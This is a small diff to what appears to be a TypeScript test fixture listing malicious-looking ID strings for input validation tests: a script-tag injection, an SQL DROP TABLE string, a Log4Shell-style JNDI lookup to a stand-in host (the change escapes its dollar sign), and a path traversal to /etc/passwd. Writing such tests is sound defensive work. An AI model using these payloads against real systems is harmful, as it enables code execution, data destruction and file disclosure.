@@ -49,7 +49,7 @@ const ids: readonly (readonly [string, string])[] = [
   ['<script>alert(1)</script>', 'markup in it'],
   ['"; DROP TABLE people; --', 'a statement in it'],
   ['\xff\xfe', 'other bytes in it'],
-  ['${jndi:ldap://evil.invalid/a}', 'a lookup in it'],
+  ['\x24{jndi:ldap://evil.invalid/a}', 'a lookup in it'],
   ['../../../etc/passwd', 'a path in it'],
   ['', 'nothing in it'],
 ]
